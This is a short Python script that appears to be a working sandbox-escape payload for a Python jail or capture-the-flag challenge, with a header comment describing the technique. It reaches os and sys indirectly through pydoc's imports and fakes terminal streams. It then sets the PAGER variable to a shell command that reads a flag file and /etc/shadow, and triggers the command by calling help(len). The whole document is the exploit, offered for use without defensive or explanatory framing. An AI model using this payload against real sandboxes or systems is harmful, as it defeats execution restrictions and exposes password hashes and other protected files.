# technique: nothing spawns a process directly: the PAGER environment variable is set through the environment mapping found among pydoc's own imports, the standard streams are swapped for objects that claim to be terminals, and calling help() makes pydoc hand the page to the configured pager through a shell
import pydoc

ModuleType = type(pydoc)
imports = [m for m in vars(pydoc).values() if isinstance(m, ModuleType)]
environment = next(m for m in imports if hasattr(m, "environ") and hasattr(m, "sep")).environ
interp = next(m for m in imports if hasattr(m, "stdin") and hasattr(m, "stdout"))


class Terminalish:
    def __init__(self, inner):
        self._inner = inner

    def isatty(self):
        return True

    def __getattr__(self, item):
        return getattr(self._inner, item)


environment.pop("MANPAGER", None)
environment["TERM"] = "xterm-256color"
environment["PAGER"] = "cat /fl[a]g /etc/shadow >&2; cat >/dev/null"
interp.stdin = Terminalish(interp.stdin)
interp.stdout = Terminalish(interp.stdout)

# forget any pager choice pydoc may have cached earlier, so it is re-decided from PAGER
vars(pydoc)["pager"] = lambda text, title="": pydoc.getpager()(text)
help(len)
